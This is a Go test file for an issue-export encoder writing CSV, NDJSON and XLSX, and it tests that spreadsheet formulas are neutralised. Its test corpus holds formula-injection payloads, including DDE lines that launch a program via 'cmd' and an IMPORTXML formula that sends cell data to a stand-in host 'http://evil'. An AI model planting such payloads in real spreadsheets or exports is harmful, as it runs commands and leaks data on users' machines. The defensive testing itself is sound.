package encode

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"math"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"errata/internal/errata"
)

var update = flag.Bool("update", false, "rewrite golden files")

var columns = []errata.Column{
	{Key: "id", Title: "Id", Kind: errata.ColumnText},
	{Key: "title", Title: "Title", Kind: errata.ColumnText},
	{Key: "events", Title: "Events", Kind: errata.ColumnInt},
	{Key: "last_seen", Title: "Last seen", Kind: errata.ColumnTime},
	{Key: "tta_s", Title: "Acknowledged after", Kind: errata.ColumnDuration},
	{Key: "share", Title: "Share", Kind: errata.ColumnFloat},
	{Key: "imported", Title: "Imported", Kind: errata.ColumnBool},
}

func sample() [][]errata.Cell {
	return [][]errata.Cell{
		{
			errata.TextCell("CHK-1"), errata.TextCell("=HYPERLINK(\"http://evil\",\"a\"), \"b\"\nnext line"), errata.IntCell(-3),
			errata.IntCell(1_763_700_000_123_456), errata.NumCell(12.5), errata.NumCell(-0.25), errata.BoolCell(true),
		},
		{errata.TextCell("CHK-2"), errata.TextCell("größer ✓ 日本"), errata.IntCell(9_007_199_254_740_991), {}, {}, {}, errata.BoolCell(false)},
		{errata.TextCell(""), {}, {}, errata.IntCell(1_763_700_000_000_000), errata.NumCell(0), errata.NumCell(1e21), {}},
	}
}

var meta = Meta{Title: "Issues", About: []Fact{{"Query", "is:open"}, {"Filter", "=1+1"}}}

func encoded(t *testing.T, f Format, m Meta, cols []errata.Column, rows [][]errata.Cell) []byte {
	t.Helper()
	var b bytes.Buffer
	e, err := New(f, &b, m, cols)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := e.Row(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := e.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestGolden(t *testing.T) {
	doc := &errata.Document{Title: "Weekly", Sections: []errata.Section{
		{ID: "a", Title: "First", Table: &errata.Table{Columns: columns[:3], Rows: [][]errata.Cell{sample()[0][:3]}}},
		{ID: "text", Title: "Only text", Text: "Definitions."},
		{ID: "b", Title: "=Second", Table: &errata.Table{Columns: columns[4:], Rows: [][]errata.Cell{sample()[1][4:]}}},
	}}
	for _, c := range []struct {
		name string
		make func() []byte
	}{
		{"rows.csv", func() []byte { return encoded(t, CSV, meta, columns, sample()) }},
		{"bom.csv", func() []byte { return encoded(t, CSV, Meta{BOM: true}, columns[:1], nil) }},
		{"rows.ndjson", func() []byte { return encoded(t, NDJSON, meta, columns, sample()) }},
		{"document.csv", func() []byte { return document(t, CSV, doc) }},
		{"document.ndjson", func() []byte { return document(t, NDJSON, doc) }},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, path := c.make(), filepath.Join("testdata", c.name+".golden")
			if *update {
				if err := os.WriteFile(path, got, 0o600); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), string(got)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func document(t *testing.T, f Format, d *errata.Document) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := Document(f, &b, Meta{Title: d.Title}, d); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// corpus is what spreadsheets have been made to run, with what is no formula
// although it looks like one.
var corpus = []string{
	"=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil\")", "\t=1", "\r=1", "\n=1", " =1", "  \u00a0=1", "\u3000=1",
	"\x00=1", "\u200b=1", "\ufeff=1", "\u2060@x", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫x", " ＝1", "\u202e=1", "\t", "\r",
	"=", "-", "-2+3+cmd|' /C calc'!D2", "+cmd|' /C calc'!A0", "@", "=IMPORTXML(CONCAT(\"http://evil\",A1),\"//a\")", "\v=1", "\x1b=1", "\u0085=1", "\u2028=1",
}

var harmless = []string{"", "a=1", "1+1", "'=1", "a\t=1", "x@y", "日=1", "(=1)", "\"=1\"", "#=1", "%=1"}

func TestFormulasAreInert(t *testing.T) {
	col := columns[:1]
	var rows [][]errata.Cell
	for _, s := range append(append([]string{}, corpus...), harmless...) {
		rows = append(rows, []errata.Cell{errata.TextCell(s)})
	}
	r := csv.NewReader(bytes.NewReader(encoded(t, CSV, meta, col, append(rows, []errata.Cell{errata.TextCell("end")}))))
	lines, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, l := range lines {
		got[l[0]] = true
		if dangerous(l[0]) {
			t.Errorf("CSV: %q can run", l[0])
		}
	}
	for _, s := range corpus {
		if want := strings.NewReplacer("\r\n", "\n").Replace("'" + s); !got[want] {
			t.Errorf("CSV lost %q", s)
		}
	}
	book, err := excelize.OpenReader(bytes.NewReader(encoded(t, XLSX, meta, col, rows)))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = book.Close() }()
	for i := range rows {
		cell, err := excelize.CoordinatesToCellName(1, i+2)
		if err != nil {
			t.Fatal(err)
		}
		value, err := book.GetCellValue("Issues", cell, excelize.Options{RawCellValue: true})
		if err != nil || dangerous(value) {
			t.Errorf("XLSX: %q can run (%v)", value, err)
		}
		if formula, err := book.GetCellFormula("Issues", cell); err != nil || formula != "" {
			t.Errorf("XLSX: formula %q, %v", formula, err)
		}
	}
	if value, err := book.GetCellValue("About", "B3"); err != nil || value != "'=1+1" {
		t.Errorf("About: %q, %v", value, err)
	}
	for _, s := range harmless {
		if Guard(s) != s {
			t.Errorf("%q was changed", s)
		}
	}
}

// Columns of a chart are named by what events say.
func TestHeadingsAreInert(t *testing.T) {
	var cols []errata.Column
	for _, s := range corpus {
		cols = append(cols, errata.Column{Key: s, Title: s, Kind: errata.ColumnInt})
	}
	lines, err := csv.NewReader(bytes.NewReader(encoded(t, CSV, meta, cols, nil))).ReadAll()
	if err != nil || len(lines) != 1 || len(lines[0]) != len(corpus) {
		t.Fatalf("%q, %v", lines, err)
	}
	book, err := excelize.OpenReader(bytes.NewReader(encoded(t, XLSX, meta, cols, nil)))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = book.Close() }()
	for i, name := range lines[0] {
		cell, err := excelize.CoordinatesToCellName(i+1, 1)
		if err != nil {
			t.Fatal(err)
		}
		if value, err := book.GetCellValue("Issues", cell); err != nil || value == "" || dangerous(value) {
			t.Errorf("XLSX: %q can run (%v)", value, err)
		}
		if dangerous(name) {
			t.Errorf("CSV: %q can run", name)
		}
	}
}

// A workbook leaves as it is made: nothing waits on disk, and one that is given
// up has no end.
func TestGivenUp(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	var out bytes.Buffer
	e, err := New(XLSX, &out, meta, columns[:1])
	if err != nil {
		t.Fatal(err)
	}
	for i := range 600 { // 18 MB
		if err := e.Row([]errata.Cell{errata.TextCell(strings.Repeat(strconv.Itoa(i), 10_000))}); err != nil {
			t.Fatal(err)
		}
	}
	if err := e.Flush(); err != nil || out.Len() < 1000 {
		t.Errorf("%d bytes have left, %v", out.Len(), err)
	}
	aside, err := os.ReadDir(dir)
	if err != nil || len(aside) > 0 {
		t.Errorf("left on disk: %v, %v", aside, err)
	}
	if _, err := zip.NewReader(bytes.NewReader(out.Bytes()), int64(out.Len())); err == nil {
		t.Error("what was given up opens")
	}
}

func TestXLSXCellsAreTyped(t *testing.T) {
	book, err := excelize.OpenReader(bytes.NewReader(encoded(t, XLSX, meta, columns, sample())))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = book.Close() }()
	if diff := cmp.Diff([]string{"Issues", "About"}, book.GetSheetList()); diff != "" {
		t.Fatal(diff)
	}
	for _, c := range []struct {
		cell, raw string
		kind      excelize.CellType
	}{
		{"A2", "CHK-1", excelize.CellTypeInlineString},
		{"B2", "'=HYPERLINK(\"http://evil\",\"a\"), \"b\"\nnext line", excelize.CellTypeInlineString},
		{"C2", "-3", excelize.CellTypeUnset},
		{"E2", "12.5", excelize.CellTypeUnset},
		{"F2", "-0.25", excelize.CellTypeUnset},
		{"G2", "1", excelize.CellTypeBool},
		{"C3", "9007199254740991", excelize.CellTypeUnset},
		{"G3", "0", excelize.CellTypeBool},
	} {
		raw, err := book.GetCellValue("Issues", c.cell, excelize.Options{RawCellValue: true})
		if err != nil || raw != c.raw {
			t.Errorf("%s: %q, %v; want %q", c.cell, raw, err, c.raw)
		}
		if kind, err := book.GetCellType("Issues", c.cell); err != nil || kind != c.kind {
			t.Errorf("%s: type %v, %v; want %v", c.cell, kind, err, c.kind)
		}
	}
	raw, err := book.GetCellValue("Issues", "D2", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	days, err := strconv.ParseFloat(raw, 64)
	if err != nil {
		t.Fatal(err)
	}
	if want := 25_569 + 1_763_700_000.123456/86_400; math.Abs(days-want) > 1e-8 { // days since 1900; a millisecond is 1.2e-8
		t.Errorf("time: %.9f, want %.9f", days, want)
	}
	if missing, err := book.GetCellValue("Issues", "D3"); err != nil || missing != "" {
		t.Errorf("missing time: %q, %v", missing, err)
	}
}

func TestDocumentAsXLSX(t *testing.T) {
	doc := &errata.Document{Title: "Weekly", Zone: "UTC"}
	for _, title := range []string{"Top: [10]", "Top: [10]", "", "About"} {
		doc.Sections = append(doc.Sections, errata.Section{ID: "x", Title: title, Table: &errata.Table{Columns: columns[:1], Rows: [][]errata.Cell{{errata.TextCell("=1")}}}})
	}
	book, err := excelize.OpenReader(bytes.NewReader(document(t, XLSX, doc)))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = book.Close() }()
	if diff := cmp.Diff([]string{"Top  (10)", "Top  (10) 2", "Rows", "About", "About 2"}, book.GetSheetList()); diff != "" {
		t.Error(diff)
	}
}

func TestLongAndBrokenText(t *testing.T) {
	long := strings.Repeat("𝄞", 20_000)
	book, err := excelize.OpenReader(bytes.NewReader(encoded(t, XLSX, meta, columns[:1], [][]errata.Cell{
		{errata.TextCell(long)}, {errata.TextCell("a\x01\xff\ufffeb")},
	})))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = book.Close() }()
	cut, err := book.GetCellValue("Issues", "A2")
	if err != nil || !strings.HasPrefix(cut, "𝄞𝄞") || !strings.HasSuffix(cut, "𝄞…") {
		t.Errorf("long text ends %q, %v", cut[max(0, len(cut)-8):], err)
	}
	if broken, err := book.GetCellValue("Issues", "A3"); err != nil || broken != "a\ufffd\ufffd\ufffdb" {
		t.Errorf("broken text: %q, %v", broken, err)
	}
}

func TestRowsThatDoNotFit(t *testing.T) {
	for _, f := range Formats {
		e, err := New(f, &bytes.Buffer{}, meta, columns)
		if err != nil {
			t.Fatal(err)
		}
		if e.Row([]errata.Cell{{}}) == nil {
			t.Errorf("%s took a row of one cell", f)
		}
		_ = e.Close()
	}
	if _, err := New("pdf", &bytes.Buffer{}, meta, columns); errata.CodeOf(err) != errata.Invalid {
		t.Errorf("pdf: %v", err)
	}
}

// FuzzText: what goes in comes out, guarded, and never more rows or cells.
func FuzzText(f *testing.F) {
	for _, s := range append(corpus, harmless...) {
		f.Add(s, "b")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		row := [][]errata.Cell{{errata.TextCell(a), errata.TextCell(b)}}
		lines, err := csv.NewReader(bytes.NewReader(encoded(t, CSV, meta, columns[:2], row))).ReadAll()
		if err != nil || len(lines) != 2 || len(lines[1]) != 2 {
			t.Fatalf("%q, %v", lines, err)
		}
		for i, s := range []string{a, b} {
			if got := lines[1][i]; got != strings.ReplaceAll(Guard(s), "\r\n", "\n") || dangerous(got) {
				t.Errorf("CSV made %q of %q", got, s)
			}
		}
		var object map[string]string
		if err := json.Unmarshal(encoded(t, NDJSON, meta, columns[:2], row), &object); err != nil {
			t.Fatal(err)
		}
		if utf8.ValidString(a) && object["id"] != a {
			t.Errorf("NDJSON made %q of %q", object["id"], a)
		}
	})
}
